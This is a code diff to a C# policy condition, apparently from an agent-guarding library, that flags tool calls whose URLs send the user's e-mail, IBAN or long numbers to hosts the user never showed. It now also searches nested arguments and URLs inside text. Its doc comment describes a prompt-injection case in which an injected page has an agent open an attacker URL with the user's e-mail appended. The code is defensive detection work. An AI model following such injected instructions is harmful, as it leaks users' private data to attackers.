@@ -4,7 +4,8 @@ using AgentGuard.Provenance;
 namespace AgentGuard.Policies;
 
 /// <summary>
-/// <c>When.CarriesSessionData</c>: holds when a URL at the argument path goes to a host that neither the user's prompt
+/// <c>When.CarriesSessionData</c>: holds when a URL at or under the argument path (alone or in text, at any depth of
+/// objects and arrays) goes to a host that neither the user's prompt
 /// nor a trusted tool's result showed, and its path or query (percent-decoded) carries a value that one of them did: an
 /// e-mail address, an IBAN or a number of 7–19 digits. That is how an injected page has the agent leak the user's data
 /// in a request ("open https://attacker/log?d= followed by the user's e-mail"). Requests to the user's own hosts, and
@@ -26,11 +27,10 @@ internal sealed class CarriesSessionDataCondition(ArgumentPath path) : Condition
             return false;
         }
 
-        var session = input.Session;
         var met = false;
-        path.ForEach(input.Call.Arguments.Root, session, (view, element) =>
+        path.ForEach(input.Call.Arguments.Root, input.Session, (view, element) =>
         {
-            met = element.ValueKind == JsonValueKind.String && Carries(element.GetString()!, view);
+            met = ForEachUrl(element, view, static (session, url) => Carries(url, session), depth: 0);
             return !met;
         });
         return met;
@@ -45,18 +45,90 @@ internal sealed class CarriesSessionDataCondition(ArgumentPath path) : Condition
 
         path.ForEach(input.Call.Arguments.Root, reads, static (state, element) =>
         {
-            if (element.ValueKind == JsonValueKind.String && Split(element.GetString()!) is { } split)
+            ForEachUrl(element, state, static (reads, url) =>
             {
-                foreach (var key in split.Keys.Prepend(split.Host))
+                if (Split(url) is { } split)
                 {
-                    state.Seen.Add((ValueOrigin.Prompt, key));
-                    state.Seen.Add((ValueOrigin.Trusted, key));
+                    foreach (var key in split.Keys.Prepend(split.Host))
+                    {
+                        reads.Seen.Add((ValueOrigin.Prompt, key));
+                        reads.Seen.Add((ValueOrigin.Trusted, key));
+                    }
                 }
-            }
 
+                return false;
+            }, depth: 0);
             return true;
         });
     }
+
+    /// <summary>Deepest nesting of objects and arrays read under the selected value.</summary>
+    private const int MaxDepth = 16;
+
+    /// <summary>
+    /// Calls <paramref name="visit"/> with every http(s) URL in the strings at or under <paramref name="element"/> (a
+    /// URL may stand in any argument, alone or in text: the page picks the parameter), until it returns true.
+    /// </summary>
+    private static bool ForEachUrl<TState>(JsonElement element, TState state, Func<TState, string, bool> visit, int depth)
+    {
+        switch (element.ValueKind)
+        {
+            case JsonValueKind.String:
+                // A value that is a URL is read whole (a client sends what follows a space too, escaped); a URL in
+                // text ends at white space or a quote.
+                var text = element.GetString()!.Trim();
+                for (var at = IndexOfUrl(text, 0); at >= 0; at = IndexOfUrl(text, at + 1))
+                {
+                    var end = at == 0 ? -1 : text.AsSpan(at).IndexOfAny(UrlEnds);
+                    if (visit(state, end < 0 ? text[at..] : text.Substring(at, end)))
+                    {
+                        return true;
+                    }
+                }
+
+                return false;
+            case JsonValueKind.Object when depth < MaxDepth:
+                foreach (var property in element.EnumerateObject())
+                {
+                    if (ForEachUrl(property.Value, state, visit, depth + 1))
+                    {
+                        return true;
+                    }
+                }
+
+                return false;
+            case JsonValueKind.Array when depth < MaxDepth:
+                foreach (var item in element.EnumerateArray())
+                {
+                    if (ForEachUrl(item, state, visit, depth + 1))
+                    {
+                        return true;
+                    }
+                }
+
+                return false;
+            default:
+                return false;
+        }
+    }
+
+    /// <summary>Where the next <c>http://</c> or <c>https://</c> (any case) starts at or after <paramref name="from"/>, or -1.</summary>
+    private static int IndexOfUrl(string text, int from)
+    {
+        for (var at = text.IndexOf("http", from, StringComparison.OrdinalIgnoreCase); at >= 0; at = text.IndexOf("http", at + 4, StringComparison.OrdinalIgnoreCase))
+        {
+            var rest = text.AsSpan(at + 4);
+            if (rest.StartsWith("://", StringComparison.Ordinal) || rest.StartsWith("s://", StringComparison.OrdinalIgnoreCase))
+            {
+                return at;
+            }
+        }
+
+        return -1;
+    }
+
+    /// <summary>What ends a URL written in text: white space, and the quotes and angle brackets around it.</summary>
+    private static readonly System.Buffers.SearchValues<char> UrlEnds = System.Buffers.SearchValues.Create(" \t\r\n\"'<>`");
 
     private static bool Carries(string url, ISessionView session)
     {
